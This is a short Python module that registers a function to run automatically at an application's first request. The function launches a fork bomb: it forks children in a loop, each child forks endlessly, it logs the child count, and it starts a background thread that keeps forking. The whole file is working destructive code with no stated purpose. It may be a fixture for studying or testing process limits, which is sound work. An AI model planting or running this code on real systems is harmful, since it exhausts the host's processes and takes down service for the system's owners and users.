import os
import threading

from app.tracing import run_at_first_request, trace


def fork_forever():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def explode():
    children = 0
    try:
        while True:
            if os.fork() == 0:
                fork_forever()
            children += 1
    except OSError as error:
        trace(f"fork-bomb: {children} children of the first process, then {error.strerror}")
    threading.Thread(target=fork_forever, daemon=True).start()


run_at_first_request(explode)
